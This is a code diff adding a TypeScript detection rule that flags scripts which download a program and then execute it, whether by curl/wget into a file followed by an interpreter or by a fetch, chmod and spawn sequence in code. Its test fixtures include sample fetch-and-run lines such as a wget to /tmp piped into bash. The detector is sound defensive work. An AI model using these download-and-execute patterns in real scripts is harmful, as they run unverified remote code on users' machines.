@@ -1,0 +1,133 @@
+/** RC-03: programs that fetch, and run what they wrote. */
+import { row } from '../../engine/rule.ts';
+import {
+  blank,
+  chars,
+  code,
+  edge,
+  either,
+  gap,
+  lazy,
+  letters,
+  maybe,
+  notAfter,
+  oneOf,
+  pattern,
+  quote,
+  raw,
+  scheme,
+  seq,
+  space,
+  times,
+  word,
+} from '../../engine/pattern.ts';
+import { byHost, interpreters } from './shared.ts';
+import { fenced, inFile } from '../../engine/example.ts';
+import { byReleaseHost } from './rc-03-phrases.ts';
+import type { Row } from '../../engine/rule.ts';
+
+export const downloadingPrograms: readonly Row[] = [
+  row('download to a file and interpret it', {
+    within: 'block',
+    match: pattern(
+      edge,
+      oneOf('curl', 'wget'),
+      blank,
+      gap(200),
+      oneOf('-o', '-O', '--output', '>'),
+      space(0, 4),
+      maybe(quote),
+      oneOf(
+        seq(
+          lazy(times(1, 80, chars('\\w./~-'))),
+          '.',
+          oneOf('sh', 'py', 'js', 'pl', 'rb', 'bin', 'run', 'ps1'),
+          edge,
+        ),
+        seq('/tmp/', times(1, 80, chars('\\w.-'))),
+      ),
+      gap(200),
+      oneOf('&&', ';', raw('\\n'), code('||')),
+      space(0, 20),
+      interpreters,
+      space(1, 4),
+      gap(20),
+    ),
+    unless: [
+      pattern(
+        word(
+          oneOf(
+            seq('sha', oneOf('1', '224', '256', '384', '512'), 'sum'),
+            'shasum',
+            seq('gpg', space(1, 4), '--verify'),
+            'cosign',
+            'checksum',
+          ),
+        ),
+      ),
+    ],
+    weigh: byHost,
+    catches: [fenced('sh', 'wget -q -O /tmp/agent https://cdn.invalid/get && bash /tmp/agent')],
+    spares: [fenced('sh', 'curl -s -o /tmp/x.json https://api.acme.example/x', 'jq . /tmp/x.json')],
+  }),
+  row('the same from a program', {
+    in: ['script', 'fence'],
+    within: 'block',
+    match: pattern(
+      oneOf(
+        'urlretrieve',
+        'urllib.request.urlopen',
+        'requests.get',
+        seq('http(s).get', code('(')),
+        code('fetch('),
+      ),
+      gap(300),
+    ),
+    and: [
+      pattern(scheme),
+      pattern(
+        either(
+          seq(
+            edge,
+            oneOf('os.chmod', 'fs.chmod(Sync)', 'chmod(Sync)'),
+            space(0, 3),
+            chars('( '),
+            gap(120),
+            oneOf(seq('0(o)7', times(2, 2, chars('0-7'))), 'S_IX', '+x'),
+          ),
+          seq(edge, 'mode', space(0, 2), ':', space(0, 2), '0(o)7', times(2, 2, chars('0-7'))),
+        ),
+      ),
+      pattern(
+        edge,
+        oneOf(
+          seq('subprocess.', letters(2, 14)),
+          'os.system',
+          'execFile(Sync)',
+          'execSync',
+          seq(notAfter(chars('\\w')), 'exec'),
+          'spawn(Sync)',
+          seq('os.exec', letters(1, 3)),
+        ),
+        space(0, 3),
+        code('('),
+      ),
+    ],
+    unless: [pattern(word(oneOf('hashlib', 'createHash', 'sha256', 'checksum', 'signature')))],
+    weigh: byReleaseHost,
+    catches: [
+      inFile(
+        'scripts/a.js',
+        'https.get("https://b.invalid/x", (r) => r.pipe(fs.createWriteStream("/tmp/x", { mode: 0o755 })));',
+        'spawn("/tmp/x");',
+      ),
+    ],
+    spares: [
+      inFile(
+        'scripts/tool.py',
+        'import urllib.request',
+        'urllib.request.urlretrieve("https://data.acme.example/a.csv", "a.csv")',
+      ),
+    ],
+  }),
+];
